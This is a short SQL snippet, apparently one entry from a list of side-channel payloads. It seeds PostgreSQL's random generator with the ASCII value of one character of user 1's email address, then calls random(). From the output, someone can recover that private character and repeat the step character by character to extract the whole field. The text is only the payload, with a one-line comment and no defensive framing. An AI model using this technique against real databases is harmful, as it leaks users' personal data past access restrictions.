-- side channels: the random generator
SELECT setseed(ascii(substr(email, 9, 1)) / 128.0) FROM users WHERE id = 1; SELECT random();
